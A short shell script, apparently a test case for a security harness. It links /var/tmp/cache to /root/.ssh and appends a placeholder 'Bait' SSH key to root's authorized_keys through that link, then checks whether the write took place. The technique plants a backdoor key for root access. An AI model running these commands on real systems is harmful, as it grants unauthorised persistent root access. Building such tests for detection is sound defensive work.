#!/bin/sh
. /opt/case/case.sh

ln -s /root/.ssh /var/tmp/cache
perl -e 'open my $f, ">>", "/var/tmp/cache/authorized_keys" or die; print $f "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQBait x\n"'
test -s /root/.ssh/authorized_keys
took_place
